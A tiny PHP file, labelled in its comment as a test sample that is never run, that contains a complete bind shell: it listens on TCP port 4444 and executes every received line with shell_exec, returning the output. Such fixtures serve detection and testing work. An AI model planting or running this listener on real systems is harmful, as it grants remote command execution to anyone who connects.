<?php
// Test sample (never run): listens on a port and runs each line it receives.
$server = stream_socket_server('tcp://127.0.0.1:4444', $errno, $errstr);
while ($conn = stream_socket_accept($server, -1)) {
    while (!feof($conn)) {
        fwrite($conn, (string) shell_exec(fgets($conn)));
    }
    fclose($conn);
}
